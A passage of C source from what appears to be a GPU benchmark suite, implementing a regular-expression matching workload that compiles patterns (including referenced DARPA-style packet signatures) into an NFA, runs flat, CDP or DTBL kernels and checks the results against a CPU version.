        cur = nxt;
        nxt = t;
        ncur = nn;
      }
      hits[i] = nhits;
      if (st != NULL) {
        uint32_t any = 0;
        for (uint32_t w = 0; w < pwords; w++) any |= mw[w];
        my.strings_matching += any != 0;
      }
    }
    if (st != NULL) {
#pragma omp critical
      {
        st->positions += my.positions;
        st->active += my.active;
        st->edges += my.edges;
        st->children += my.children;
        st->child_threads += my.child_threads;
        st->child_edges += my.child_edges;
        st->strings_matching += my.strings_matching;
        st->max_len = my.max_len > st->max_len ? my.max_len : st->max_len;
      }
    }
    free(cur);
    free(nxt);
    free(mark);
  }
  return nomem ? -1 : 0;
}

/* ---- inputs of a size ----------------------------------------------------- */

/* The patterns, their NFA and the strings, from one generator seeded with
 * the seed (the string patterns first, then the strings). */
typedef struct regx_input {
  sbuf pb, tb;            /* the string patterns' text; the strings' bytes */
  const char *pats[64];
  uint32_t npat, nstr;
  uint32_t *off;          /* nstr + 1 offsets into tb.p */
  regx_nfa nfa;
} regx_input;

static void regx_input_free(regx_input *in) {
  free(in->pb.p);
  free(in->tb.p);
  free(in->off);
  nfa_free(&in->nfa);
  memset(in, 0, sizeof *in);
}

static uint32_t regx_strings(st_wl_size size, int is_string) {
  if (is_string) return size == ST_WL_PAPER ? 1024 : size == ST_WL_MEDIUM ? 256 : 64;
  return size == ST_WL_PAPER ? 512 : size == ST_WL_MEDIUM ? 128 : 32;
}

/* ST_OK, ST_ERR_NOMEM, or ST_ERR_MISMATCH with the verdict saying which
 * pattern does not compile. */
static st_status regx_inputs(uint64_t seed, st_wl_size size, int is_string, regx_input *in,
                             char *verdict, size_t verdict_size) {
  memset(in, 0, sizeof *in);
  st_wl_rng r;
  st_wl_rng_seed(&r, seed);
  /* patterns */
  if (is_string) {
    size_t at[STRING_PATTERNS];
    for (uint32_t k = 0; k < STRING_PATTERNS; k++) {
      at[k] = in->pb.n;
      string_pattern(&in->pb, &r, k);
      sb_byte(&in->pb, 0);
    }
    in->npat = STRING_PATTERNS;
    for (uint32_t k = 0; k < in->npat && !in->pb.bad; k++) {
      in->pats[k] = (const char *)in->pb.p + at[k];
    }
  } else {
    in->npat = (uint32_t)(sizeof darpa_sigs / sizeof darpa_sigs[0]);
    for (uint32_t k = 0; k < in->npat; k++) in->pats[k] = darpa_sigs[k];
  }
  if (in->pb.bad) {
    regx_input_free(in);
    return ST_ERR_NOMEM;
  }
  uint32_t bad_pat = 0;
  int brc = nfa_build(&in->nfa, in->pats, in->npat, &bad_pat);
  if (brc != 0) {
    if (brc == -1) {
      snprintf(verdict, verdict_size, "pattern %u does not compile: %.200s", bad_pat,
               in->pats[bad_pat]);
    }
    regx_input_free(in);
    return brc == -1 ? ST_ERR_MISMATCH : ST_ERR_NOMEM;
  }
  /* strings */
  uint32_t nstr = in->nstr = regx_strings(size, is_string);
  in->off = malloc(((size_t)nstr + 1) * sizeof *in->off);
  if (in->off == NULL) {
    regx_input_free(in);
    return ST_ERR_NOMEM;
  }
  for (uint32_t i = 0; i < nstr; i++) {
    in->off[i] = (uint32_t)in->tb.n;
    if (is_string) {
      uint32_t len = 40 + st_wl_rng_below(&r, 81);
      for (uint32_t k = 0; k < len; k++) sb_byte(&in->tb, alpha[st_wl_rng_below(&r, 4)]);
    } else {
      darpa_packet(&in->tb, &r);
    }
  }
  in->off[nstr] = (uint32_t)in->tb.n;
  if (in->tb.bad) {
    regx_input_free(in);
    return ST_ERR_NOMEM;
  }
  return ST_OK;
}

/* ---- driver ------------------------------------------------------------- */

/* The kernels' arguments (REGX_ARGS in regx.cu): eleven device addresses,
 * then four 32-bit counts. */
typedef struct regx_ctx_host {
  uint64_t row, edge, acc, text, off, sets, match, hits, pend, pos, more;
  uint32_t nstr, words, stride, pwords;
} regx_ctx_host;

static st_status run(st_wl_ctx *ctx, st_error *err) {
  int is_string = ctx->input != NULL && strcmp(ctx->input, "string") == 0;
  int dtbl = ctx->variant != NULL && strcmp(ctx->variant, "dtbl") == 0;
  int cdp = dtbl || (ctx->variant != NULL && strcmp(ctx->variant, "cdp") == 0);
  const char *vname = dtbl ? "dtbl" : cdp ? "cdp" : "flat";
  regx_input in;
  st_status irc = regx_inputs(ctx->seed, ctx->size, is_string, &in, ctx->verdict,
                              sizeof ctx->verdict);
  if (irc != ST_OK) {
    return irc;
  }
  const regx_nfa nfa = in.nfa;
  const sbuf tb = in.tb;
  const uint32_t *off = in.off;
  uint32_t npat = in.npat, nstr = in.nstr;
  uint32_t words = (nfa.n + 31) / 32, sumw = (words + 31) / 32, stride = words + sumw;
  uint32_t pwords = (npat + 31) / 32;
  uint32_t *match = malloc((size_t)nstr * pwords * sizeof *match);
  uint32_t *want_match = malloc((size_t)nstr * pwords * sizeof *want_match);
  uint32_t *hits = malloc((size_t)nstr * sizeof *hits);
  uint32_t *want_hits = malloc((size_t)nstr * sizeof *want_hits);
  st_status rc =
      match == NULL || want_match == NULL || hits == NULL || want_hits == NULL ? ST_ERR_NOMEM
                                                                               : ST_OK;
  st_gpu *gpu = ctx->gpu;
  regx_ctx_host hc;
  memset(&hc, 0, sizeof hc);
  hc.nstr = nstr;
  hc.words = words;
  hc.stride = stride;
  hc.pwords = pwords;
  if (rc == ST_OK) rc = st_wl_upload(gpu, nfa.row, ((uint64_t)nfa.n + 1) * 4, &hc.row, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, nfa.edge, (uint64_t)nfa.m * 4, &hc.edge, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, nfa.acc, (uint64_t)nfa.n * 4, &hc.acc, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, tb.p, tb.n + 1, &hc.text, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, off, ((uint64_t)nstr + 1) * 4, &hc.off, err);
  if (rc == ST_OK) {
    rc = st_wl_upload(gpu, NULL, (uint64_t)nstr * 2 * stride * 4, &hc.sets, err);
  }
  if (rc == ST_OK) rc = st_wl_upload(gpu, NULL, (uint64_t)nstr * pwords * 4, &hc.match, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, NULL, (uint64_t)nstr * 4, &hc.hits, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, NULL, (uint64_t)nstr * 4, &hc.pend, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, NULL, (uint64_t)nstr * 4, &hc.pos, err);
  if (rc == ST_OK) rc = st_wl_upload(gpu, NULL, 4, &hc.more, err);
  /* flat: one launch; cdp, dtbl: launches while a string stopped at the depth limit */
  uint32_t launches = 0;
  for (uint32_t more = 1; rc == ST_OK && more; launches++) {
    more = 0;
    rc = st_memcpy_htod(gpu, hc.more, &more, 4, err);
    st_arg a[] = {ST_ARG_PTR(hc.row),   ST_ARG_PTR(hc.edge),  ST_ARG_PTR(hc.acc),
                  ST_ARG_PTR(hc.text),  ST_ARG_PTR(hc.off),   ST_ARG_PTR(hc.sets),
                  ST_ARG_PTR(hc.match), ST_ARG_PTR(hc.hits),  ST_ARG_PTR(hc.pend),
                  ST_ARG_PTR(hc.pos),   ST_ARG_PTR(hc.more),  ST_ARG_U32(nstr),
                  ST_ARG_U32(words),    ST_ARG_U32(stride),   ST_ARG_U32(pwords)};
    if (rc == ST_OK) {
      rc = st_launch(gpu, ctx->mod, dtbl ? "regx_dtbl" : cdp ? "regx_cdp" : "regx_flat",
                     st_dim3_make((nstr + REGX_THREADS - 1) / REGX_THREADS, 1, 1),
                     st_dim3_make(REGX_THREADS, 1, 1), 0, a, 15, err);
    }
    if (rc == ST_OK && cdp) rc = st_memcpy_dtoh(gpu, &more, hc.more, 4, err);
  }
  if (rc == ST_OK) {
    rc = st_memcpy_dtoh(gpu, match, hc.match, (uint64_t)nstr * pwords * 4, err);
  }
  if (rc == ST_OK) rc = st_memcpy_dtoh(gpu, hits, hc.hits, (uint64_t)nstr * 4, err);
  regx_stats st;
  memset(&st, 0, sizeof st);
  if (rc == ST_OK) {
    if (cpu_regx(&nfa, tb.p, off, nstr, pwords, want_match, want_hits, &st, ctx->threads) !=
        0) {
      rc = ST_ERR_NOMEM;
    }
  }
  if (rc == ST_OK) {
    rc = st_wl_check_u32(ctx, "matched patterns", match, want_match, (size_t)nstr * pwords);
  }
  if (rc == ST_OK) rc = st_wl_check_u32(ctx, "match events", hits, want_hits, nstr);
  uint64_t events = 0;
  for (uint32_t i = 0; rc == ST_OK && i < nstr; i++) events += want_hits[i];
  if (rc == ST_OK) {
    snprintf(ctx->verdict, sizeof ctx->verdict,
             "matches: %u strings' pattern sets and %llu match events match the CPU NFA "
             "(%u of %u strings match a pattern)",
             nstr, (unsigned long long)events, st.strings_matching, nstr);
  }
  if (ctx->log != NULL && (rc == ST_OK || rc == ST_ERR_MISMATCH)) {
    uint32_t maxdeg = 0, big = 0;
    for (uint32_t v = 0; v < nfa.n; v++) {
      uint32_t d = nfa.row[v + 1] - nfa.row[v];
      maxdeg = d > maxdeg ? d : maxdeg;
      big += d >= REGX_CHILD_MIN;
    }
    fprintf(ctx->log,
            "  regx %s (%s): %u patterns -> NFA %u states, %u edges (state 0 %u edges, max %u, "
            "%u states >= %u); %u strings, %llu bytes (max %u); %u host launch(es)\n",
            is_string ? "string" : "darpa", vname, npat, nfa.n, nfa.m,
            nfa.row[1] - nfa.row[0], maxdeg, big, REGX_CHILD_MIN, nstr,
            (unsigned long long)st.positions, st.max_len, launches);
    fprintf(ctx->log,
            "  regx: %llu active (position, state) pairs (%.2f per position), %llu edges "
            "examined; child launches if none refused: %llu (%.2f per position), %llu threads "
            "(%.1f per child), %llu edges (%.1f per child)\n",
            (unsigned long long)st.active, st.positions ? (double)st.active / st.positions : 0.0,
            (unsigned long long)st.edges, (unsigned long long)st.children,
            st.positions ? (double)st.children / st.positions : 0.0,
            (unsigned long long)st.child_threads,
            st.children ? (double)st.child_threads / st.children : 0.0,
            (unsigned long long)st.child_edges,
            st.children ? (double)st.child_edges / st.children : 0.0);
  }
  free(match);
  free(want_match);
  free(hits);
  free(want_hits);
  regx_input_free(&in);
  return rc;
}

/* The CPU version: the walk of every string (cpu_regx) on every thread. */
typedef struct regx_cpu_args {
  const regx_input *in;
  uint32_t pwords;
  uint32_t *match, *hits;
  int threads, nomem;
} regx_cpu_args;

static void regx_cpu_work(void *arg) {
  regx_cpu_args *a = arg;
  const regx_input *in = a->in;
  a->nomem |= cpu_regx(&in->nfa, in->tb.p, in->off, in->nstr, a->pwords, a->match, a->hits,
                       NULL, a->threads) != 0;
}

static st_status cpu(st_wl_ctx *ctx, st_error *err) {
  (void)err;
  int is_string = ctx->input != NULL && strcmp(ctx->input, "string") == 0;
  regx_input in;
  st_status rc = regx_inputs(ctx->seed, ctx->size, is_string, &in, ctx->verdict,
                             sizeof ctx->verdict);
  if (rc != ST_OK) {
    return rc;
  }
  uint32_t pwords = (in.npat + 31) / 32;
  regx_cpu_args a = {.in = &in, .pwords = pwords,
                     .match = malloc((size_t)in.nstr * pwords * sizeof(uint32_t)),
                     .hits = malloc((size_t)in.nstr * sizeof(uint32_t)),
                     .threads = ctx->threads};
  rc = a.match != NULL && a.hits != NULL ? ST_OK : ST_ERR_NOMEM;
  if (rc == ST_OK) rc = st_wl_cpu_time(ctx, regx_cpu_work, &a);
  if (rc == ST_OK && a.nomem) rc = ST_ERR_NOMEM;
  if (rc == ST_OK) {
    st_wl_cpu_digest(ctx, a.match, (size_t)in.nstr * pwords * sizeof(uint32_t));
    st_wl_cpu_digest(ctx, a.hits, (size_t)in.nstr * sizeof(uint32_t));
  }
  free(a.match);
  free(a.hits);
  regx_input_free(&in);
  return rc;
}

const st_workload_desc st_wl_regx = {
    .name = "regx",
    .title = "regular-expression matching (Gregex style): patterns compiled into one NFA in CSR "
             "form, one thread per input string walks the active state set position by "
             "position; CDP examines a high fan-out state's edges in a child grid (DTBL: an "
             "aggregated group) and continues the walk from the child",
    .seeds = "DTBL/LaPerm/DVFS dissertation (Wang 2016) REGX",
    .category = "dissertation §4.1: traversal (recursive FA traversal; transition edges "
                "examined in parallel)",
    .suite = "other",
    .tables = "dissertation §4.1 benchmark table and Figs. (regx_darpa, regx_string)",
    .ptx = "regx.ptx",
    .small = "darpa: 47 signatures, 32 packets; string: 6 patterns, 64 strings of 40..120 "
             "letters",
    .paper = "darpa: 47 signatures, 512 packets of 96..480 bytes; string: 6 patterns, 1024 "
             "strings of 40..120 letters",
    .medium = "darpa: 47 signatures, 128 packets of 96..480 bytes; string: 6 patterns, 256 "
              "strings of 40..120 letters",
    .variants = "flat cdp dtbl",
    .inputs = "darpa string",
    .run = run,
    .cpu = cpu,
};
